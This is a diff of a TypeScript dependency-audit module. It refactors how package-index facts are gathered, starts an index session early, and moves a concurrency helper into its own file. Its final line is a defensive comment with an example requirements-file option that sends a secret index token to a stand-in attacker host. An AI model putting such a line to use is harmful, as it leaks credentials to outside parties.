@@ -14,6 +14,7 @@ import {
 	discoverFiles,
 } from "./discover/discover-files.js";
 import { groupProjects, type ParsedFile } from "./discover/group-projects.js";
+import { mapConcurrently } from "./discover/map-concurrently.js";
 import {
 	type FileOutcome,
 	parseDiscoveredFile,
@@ -24,7 +25,11 @@ import {
 	parseInWorkers,
 } from "./discover/parse-pool.js";
 import { createRequirementsReader } from "./discover/resolve-requirements.js";
-import { gatherIndexFacts } from "./index/gather-index-facts.js";
+import {
+	type GatherIndexOptions,
+	gatherIndexFacts,
+	startIndexSession,
+} from "./index/gather-index-facts.js";
 import {
 	INDEX_TOKEN_ENV,
 	maskSecrets,
@@ -97,6 +102,9 @@ export async function auditRepository(options: AuditOptions): Promise<Report> {
 	};
 	checkGlobsCompile(globs);
 	const loaded = await loadPolicy(options.root, options.policyPath);
+	// Online, the index session starts now: its host is asked of DNS while the tree is read and parsed.
+	const indexOptions = toIndexOptions(loaded, options);
+	const session = startIndexSession(indexOptions);
 	const discovery = await discoverFiles(options.root, {
 		include: globs.include.map((g) => scopeGlob(g, scope)),
 		exclude: globs.exclude.map((g) => scopeGlob(g, scope)),
@@ -136,7 +144,10 @@ export async function auditRepository(options: AuditOptions): Promise<Report> {
 	];
 
 	// The only network I/O of an audit, all of it before evaluation, so the rules stay pure.
-	const gathered = await gatherFacts(projects, loaded, options);
+	const gathered = await gatherIndexFacts(projects, {
+		...indexOptions,
+		session,
+	});
 	const evaluated = evaluatePolicy(projects, loaded.policy, {
 		today: options.today ?? new Date(),
 		index: gathered.facts,
@@ -163,13 +174,12 @@ export async function auditRepository(options: AuditOptions): Promise<Report> {
 	return { ...report, packageLinks: collectPackageLinks(gathered.facts) };
 }
 
-/** The index facts the rules read: only the requirements a rule will read, at the configured concurrency. */
-function gatherFacts(
-	projects: readonly Project[],
+/** What the index facts are gathered with: only the requirements a rule will read, at the configured concurrency. */
+function toIndexOptions(
 	loaded: LoadedPolicy,
 	options: AuditOptions,
-) {
-	return gatherIndexFacts(projects, {
+): GatherIndexOptions {
+	return {
 		offline: options.offline ?? true,
 		indexUrl: options.indexUrl ?? loaded.policy.indexUrl,
 		cacheDir: options.cacheDir ?? null,
@@ -179,7 +189,7 @@ function gatherFacts(
 			concurrency: options.indexConcurrency ?? loaded.policy.indexConcurrency,
 		},
 		needsRequirements: createRequirementsNeed(loaded.policy),
-	});
+	};
 }
 
 function toReportPolicy(loaded: LoadedPolicy): ReportPolicy {
@@ -364,26 +374,6 @@ export function buildReport(
 			notices: count("notice"),
 		},
 	};
-}
-
-async function mapConcurrently<T, R>(
-	items: readonly T[],
-	limit: number,
-	fn: (item: T) => Promise<R>,
-): Promise<R[]> {
-	const results: R[] = new Array(items.length);
-	let next = 0;
-	const workers = Array.from(
-		{ length: Math.min(limit, items.length) },
-		async () => {
-			while (next < items.length) {
-				const index = next++;
-				results[index] = await fn(items[index] as T);
-			}
-		},
-	);
-	await Promise.all(workers);
-	return results;
 }
 
 // A requirements file could otherwise write `--index-url https://evil.test/${PIN_AUDIT_INDEX_TOKEN}/simple`.
